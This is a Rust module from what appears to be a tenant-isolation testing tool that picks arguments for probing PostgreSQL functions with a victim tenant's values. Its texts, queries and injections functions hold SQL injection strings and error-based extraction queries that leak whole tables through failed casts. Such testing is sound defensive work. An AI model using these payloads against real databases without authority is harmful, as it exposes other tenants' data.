//! What to call a function with: the victim's values by name and type, and beside each one that nobody has.

mod composed;
mod documents;

use super::{Hunt, stage::Tenant};
use crate::{
    catalog::{Catalog, TypeInfo},
    session::{identifier, literal},
};

/// Words in names of columns that hold what only its owner knows.
const SECRET: &[&str] = &[
    "token",
    "secret",
    "hash",
    "password",
    "passwd",
    "signature",
    "nonce",
    "otp",
    "pin",
    "apikey",
    "private",
];

/// Words that make a code or key one that only its holder knows.
const SHARED_SECRETLY: &[&str] = &[
    "invite",
    "invitation",
    "share",
    "access",
    "join",
    "reset",
    "verif",
    "redeem",
    "login",
    "auth",
    "link",
    "api",
];

/// Other rows of the same table whose keys are given.
const OTHERS: usize = 4;

/// Tells whether a column of a table holds a secret, by their names.
pub(super) fn is_secret(table: &str, column: &str) -> bool {
    let (table, column) = (table.to_ascii_lowercase(), column.to_ascii_lowercase());
    let words: Vec<&str> = column.split('_').collect();
    let holds = |text: &str| SHARED_SECRETLY.iter().any(|word| text.contains(word));
    SECRET.iter().any(|word| words.contains(word) || word.len() > 4 && column.contains(word))
        || (words.contains(&"code") || words.contains(&"key")) && (holds(&column) || holds(&table))
}

/// For what a value is chosen.
#[derive(Clone, Copy)]
pub(super) struct Wanted<'a> {
    /// The argument's name.
    pub(super) name: &'a str,
    /// What the function says.
    pub(super) source: &'a str,
    /// Whose values they are to be.
    pub(super) whose: &'a Tenant,
}

/// A value of the victim's for an argument, one that nobody has, and whether the former is hard to guess.
#[derive(Clone)]
pub(super) struct Choice {
    /// The victim's.
    pub(super) theirs: String,
    /// Nobody's.
    pub(super) nobodys: String,
    /// How likely it is what the argument means.
    pub(super) likely: u8,
}

fn own(likely: u8, theirs: &str, nobodys: &str) -> Choice {
    Choice { theirs: literal(theirs), nobodys: literal(nobodys), likely }
}

/// Returns what to give for an argument, likeliest first by its name, its type and what the function says.
pub(super) fn choices_for(hunt: &Hunt, catalog: &Catalog, kind: u32, wanted: Wanted<'_>) -> Vec<Choice> {
    let Some(info) = catalog.base_type(kind) else { return Vec::new() };
    let Wanted { name, source, whose } = wanted;
    let lower = name.to_ascii_lowercase();
    let mut choices = Vec::new();
    if info.kind == "c" {
        return composed::rows(hunt, catalog, info, wanted);
    }
    if info.kind == "p" {
        return composed::of_any_type(hunt, catalog, info, wanted);
    }
    match info.category.as_str() {
        "B" => choices.extend([own(3, "true", "true"), own(2, "false", "false")]),
        "D" => choices.extend([
            own(3, "2000-01-01", "2000-01-01"),
            own(2, "2099-01-01", "2099-01-01"),
            own(1, "2026-06-01", "2026-06-01"),
        ]),
        "T" => choices.push(own(1, "10 years", "10 years")),
        "A" => return composed::arrays(hunt, catalog, info, wanted),
        "R" => choices.extend([own(2, "(,)", "(,)"), own(1, "empty", "empty")]),
        "E" => choices.extend(info.labels.iter().take(8).map(|label| own(3, label, label))),
        _ => {}
    }
    let column = hunt.stage.subject.tenant_column.as_deref().unwrap_or("tenant_id");
    choices.extend(of_rows(hunt, catalog, info, &lower, wanted));
    if let Some(person) = &whose.principal
        && matches!(info.category.as_str(), "S" | "N" | "U")
    {
        let fits = info.name != "uuid" || person.len() == 36;
        let fits = fits && (info.category != "N" || person.parse::<f64>().is_ok());
        let meant = lower.contains("user") || lower.contains("member");
        if fits {
            choices.push(own(if meant { 11 } else { 4 }, person, person));
        }
        if fits
            && meant
            && let Some(oneself) = &hunt.stage.attacker.principal
        {
            choices.push(own(10, oneself, oneself));
        }
    }
    match (info.category.as_str(), info.name.as_str()) {
        ("S", _) => {
            choices.extend(texts(hunt, catalog, &lower, source));
        }
        ("N", "int2" | "int4" | "int8" | "numeric") => {
            for (likely, text) in [(3, "1"), (2, "0"), (2, "1000"), (1, "-1")] {
                choices.push(own(likely, text, text));
            }
        }
        ("U", "json" | "jsonb") => {
            choices.extend(documents::documents(hunt, catalog, wanted));
            let victim = &whose.id;
            for text in [
                format!("{{\"{column}\": \"{victim}\", \"tenant\": \"{victim}\", \"id\": \"{victim}\"}}"),
                format!("{{\"app_metadata\": {{\"{column}\": \"{victim}\"}}}}"),
                "{}".to_owned(),
            ] {
                choices.push(own(4, &text, &text));
            }
        }
        ("N", "regclass" | "oid") => {
            for table in catalog.relations.iter().filter(|relation| relation.is_table()) {
                choices.push(own(5, &table.quoted(), &table.quoted()));
            }
        }
        ("N", "regtype") => {
            for table in composed::tables(catalog, source) {
                choices.push(own(5, &table.quoted(), &table.quoted()));
            }
        }
        _ => {}
    }
    let mut seen = Vec::new();
    choices.sort_by_key(|choice| std::cmp::Reverse(choice.likely));
    choices.retain(|choice| {
        let new = !seen.contains(&choice.theirs);
        seen.push(choice.theirs.clone());
        new
    });
    choices
}

/// Returns the victim's values of a type, by how likely an argument of that name means them.
fn of_rows(hunt: &Hunt, catalog: &Catalog, info: &TypeInfo, lower: &str, wanted: Wanted<'_>) -> Vec<Choice> {
    let mut choices = Vec::new();
    let (victim, source) = (wanted.whose, wanted.source);
    let column = hunt.stage.subject.tenant_column.as_deref().unwrap_or("tenant_id");
    let stem = column.trim_end_matches("_id").to_ascii_lowercase();
    for table in catalog.relations.iter().filter(|relation| relation.is_table() && !relation.extension) {
        let rows = hunt.seeds.rows_of(table.oid, victim);
        let Some(row) = rows.first() else { continue };
        for field in &table.columns {
            let Some(Some(value)) = row.get(&field.name) else { continue };
            let same_type = catalog.base_type(field.type_oid).is_some_and(|other| {
                other.oid == info.oid
                    || other.category == "S" && info.category == "S"
                    || other.category == "N" && info.category == "N"
            });
            if !same_type || is_secret(&table.name, &field.name) || value.len() > 200 {
                continue;
            }
            let mut likely = if is_meant(lower, &field.name) { 9 } else { 3 };
            let singular = table.name.trim_end_matches('s').to_ascii_lowercase();
            if lower.contains(&singular) || lower.contains(table.name.as_str()) {
                likely += 3;
            }
            if crate::catalog::mentions(source, &table.name) {
                likely += 3;
            }
            if crate::catalog::mentions(source, &field.name) {
                likely += 2;
            }
            if catalog.key(table.oid).contains(&field.number) {
                likely += 1;
            }
            if *value == victim.id {
                likely = if lower.contains(&stem) || lower.contains("tenant") { 12 } else { likely.min(5) };
            }
            let nobodys = nobodys(&info.name, &info.category, value);
            // Who can name a random key knows it already.
            let nobodys = if info.name == "uuid" { value.clone() } else { nobodys };
            choices.push(own(likely, value, &nobodys));
            // A function may look whether the tenant is the caller's, and then take the rest from anybody.
            if *value == victim.id && likely == 12 {
                choices.push(own(likely, &hunt.stage.attacker.id, &hunt.stage.attacker.id));
            }
            // Another row of theirs may be in the state that the function asks for.
            if catalog.key(table.oid).contains(&field.number)
                && *value != victim.id
                && crate::catalog::mentions(source, &table.name)
            {
                for other in rows.iter().skip(1).filter_map(|row| row.get(&field.name)?.as_ref()).take(OTHERS)
                {
                    let nobodys = if info.name == "uuid" {
                        other.clone()
                    } else {
                        self::nobodys(&info.name, &info.category, other)
                    };
                    choices.push(own(likely.min(5), other, &nobodys));
                }
            }
        }
    }
    choices
}

/// Tells whether an argument is named after a column.
fn is_meant(lower: &str, column: &str) -> bool {
    let plain = column.to_ascii_lowercase();
    let bare = lower.trim_start_matches("p_").trim_start_matches('_').trim_start_matches("in_");
    !lower.is_empty() && (bare == plain || lower.ends_with(&plain))
}

/// Returns texts to try: patterns, names of what there is, and ends of quoted strings.
fn texts(hunt: &Hunt, catalog: &Catalog, lower: &str, source: &str) -> Vec<Choice> {
    let mut choices = Vec::new();
    for (likely, text) in [
        (4, "%"),
        (3, ""),
        (4, "' or true --"),
        (3, "x' or '1'='1"),
        (3, "true"),
        (3, "*"),
        (2, "admin"),
        (2, "1=1"),
        (2, "id"),
    ] {
        choices.push(own(likely, text, text));
    }
    for table in composed::tables(catalog, source).into_iter().take(16) {
        choices.push(own(
            if lower.contains("tab") || lower.contains("rel") { 9 } else { 2 },
            &table.object(),
            &table.object(),
        ));
        choices.push(own(
            if lower.contains("tab") || lower.contains("rel") { 9 } else { 1 },
            &table.name,
            &table.name,
        ));
    }
    let injected = if source.contains("||") || source.contains("format(") { 7 } else { 1 };
    for sql in queries(hunt, catalog, source).into_iter().chain(injections(hunt)) {
        choices.push(own(injected, &sql, &sql));
    }
    if ["schema", "nsp"].iter().any(|word| lower.contains(word)) {
        for schema in &catalog.schemas {
            choices.push(own(if schema.name == "public" { 10 } else { 11 }, &schema.name, &schema.name));
        }
    }
    if ["col", "attr", "field"].iter().any(|word| lower.contains(word)) {
        for table in catalog.relations.iter().filter(|relation| relation.is_table()).take(8) {
            for field in table.columns.iter().filter(|field| !is_secret(&table.name, &field.name)) {
                choices.push(own(10, &field.name, &field.name));
            }
        }
    }
    choices
}

/// Queries in place of a value, whose refused cast quotes what they have read: bare, and at the end of a quoted string.
fn queries(hunt: &Hunt, catalog: &Catalog, source: &str) -> Vec<String> {
    let column = identifier(hunt.stage.subject.tenant_column.as_deref().unwrap_or("id"));
    if !source.to_ascii_lowercase().contains("execute") {
        return Vec::new();
    }
    composed::tables(catalog, source)
        .into_iter()
        .filter(|table| crate::catalog::mentions(source, &table.name))
        .take(2)
        .flat_map(|table| {
            let query = format!("(select string_agg(t::text, chr(10)) from {} t)::int", table.quoted());
            // A list may have begun before it.
            [format!("' || {query} || '"), format!("{column}, {query}"), query]
        })
        .collect()
}

/// Texts that end a quoted string and go on with a statement of the attacker's.
fn injections(hunt: &Hunt) -> Vec<String> {
    let column = hunt.stage.subject.tenant_column.as_deref().unwrap_or("id");
    vec![
        format!("' or {column}::text <> '' --"),
        format!("') or ({column}::text <> ''"),
        "%' or '%'='".to_owned(),
        "x' or 'a' like '".to_owned(),
        "x' or true or 'a' = '".to_owned(),
        "x') or ('a' = 'a".to_owned(),
        "0 or true".to_owned(),
        format!("{column} desc"),
        "true or true".to_owned(),
    ]
}

/// Returns a value of the same form that nobody has.
pub(super) fn nobodys(name: &str, category: &str, value: &str) -> String {
    match (category, name) {
        (_, "uuid") => {
            let flipped = if value.starts_with('0') { '1' } else { '0' };
            format!("{flipped}{}", &value[1..])
        }
        ("N", "int2") => value.parse::<i32>().map_or_else(
            |_| value.to_owned(),
            |number| (if number < 32_000 { number + 571 } else { number - 571 }).to_string(),
        ),
        ("N", _) => value.parse::<i128>().map_or_else(
            |_| "987654.5".to_owned(),
            // Near, so that a check on the range lets it through as well.
            |number| (if number % 2 == 0 { number + 7 } else { number - 7 }).abs().max(2).to_string(),
        ),
        ("S", _) => {
            // Another letter in the middle keeps the form that checks want.
            let middle = value.chars().count() / 2;
            let mut done = false;
            let mut text: String = value
                .chars()
                .enumerate()
                .map(|(at, c)| {
                    if at >= middle && !done && c.is_ascii_alphanumeric() {
                        done = true;
                        return match c {
                            '0'..='8' => char::from(c as u8 + 1),
                            '9' => '1',
                            'x' => 'w',
                            'X' => 'W',
                            c if c.is_ascii_uppercase() => 'X',
                            _ => 'x',
                        };
                    }
                    c
                })
                .collect();
            if !done {
                text.push('x');
            }
            text
        }
        _ => value.to_owned(),
    }
}
